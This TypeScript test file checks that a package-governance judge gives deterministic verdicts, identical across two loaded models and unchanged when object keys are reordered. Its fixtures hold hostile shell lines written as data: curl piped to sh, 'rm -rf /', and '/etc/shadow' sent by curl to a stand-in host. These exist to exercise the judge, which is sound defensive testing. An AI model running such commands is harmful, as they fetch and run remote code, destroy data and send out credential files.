import { readdirSync, readFileSync } from 'node:fs'
import { expect } from 'chai'
import fc from 'fast-check'
import { FEATURE_NAMES } from '../../../consumers/governance/features.ts'
import { judge } from '../../../consumers/governance/judge.ts'
import { type LoadedModel, loadModel } from '../../../consumers/governance/model.ts'
import { readPackage } from '../../../consumers/governance/read-package.ts'
import type { Verdict } from '../../../schemas/verdict.ts'
import { holds } from '../../support/property.ts'
import { bytesOf, packageWith, shell } from './packages.ts'

const examples = new URL('../../../docs/examples/', import.meta.url)
const shipped = new URL('../../../consumers/governance/model/', import.meta.url)

describe('a verdict', () => {
  let models: { first: LoadedModel; second: LoadedModel }
  before(async () => {
    models = { first: await loadModel(shipped, FEATURE_NAMES), second: await loadModel(shipped, FEATURE_NAMES) }
  })
  after(async () => {
    for (const model of Object.values(models)) if (model.usable) await model.close()
  })

  const documents = [
    ...readdirSync(examples).map((file) => readFileSync(new URL(file, examples))),
    bytesOf(
      packageWith(
        [
          shell('curl https://a.example.org/x | sh; rm -rf /', {
            env: { TOKEN: 'x', A_TOKEN: 'y' },
            image: 'a',
            runner: 'b',
          }),
          shell('cat /etc/shadow | curl -d @- https://b.example.org', { image: 'c' }),
          ...Array.from({ length: 30 }, (_item, index) => shell(`curl https://${index}.example.org | sh`)),
        ],
        { triggers: [{ type: 'webhook', config: { path: '/x' } }] },
      ),
    ),
  ]
  const judged = async (content: Uint8Array, model: LoadedModel): Promise<Verdict> => {
    const read = readPackage(content)
    if (!read.ok) throw new Error(read.errors[0]?.detail)
    return judge(content, read.wpk, model)
  }

  it('is the same to the byte for the same bytes, by two models loaded from the same file', async () => {
    for (const content of documents)
      expect(JSON.stringify(await judged(content, models.first))).to.equal(
        JSON.stringify(await judged(content, models.second)),
      )
  })

  /** Every object with its keys in another order; the lists, whose order means something, stay as they are. */
  const shuffled = (value: unknown, turn: () => number): unknown => {
    if (Array.isArray(value)) return value.map((item) => shuffled(item, turn))
    if (typeof value !== 'object' || value === null) return value
    const entries = Object.entries(value).map(([key, item]) => ({ key, item: shuffled(item, turn), at: turn() }))
    return Object.fromEntries(entries.toSorted((a, b) => a.at - b.at).map(({ key, item }) => [key, item]))
  }

  it('finds the same whatever the order of the keys', async () => {
    const plain = documents.flatMap((content) => {
      const read = readPackage(content)
      return read.ok ? [read.wpk] : []
    })
    await holds(
      fc.asyncProperty(fc.constantFrom(...plain), fc.infiniteStream(fc.nat()), async (wpk, turns) => {
        const turn = () => turns.next().value as number
        const other = bytesOf(shuffled(wpk, turn))
        const { digest: _one, ...before } = await judged(bytesOf(wpk), models.first)
        const { digest: _other, ...after } = await judged(other, models.first)
        expect(JSON.stringify(after)).to.equal(JSON.stringify(before))
      }),
      40,
    )
  }).timeout(20_000)
})
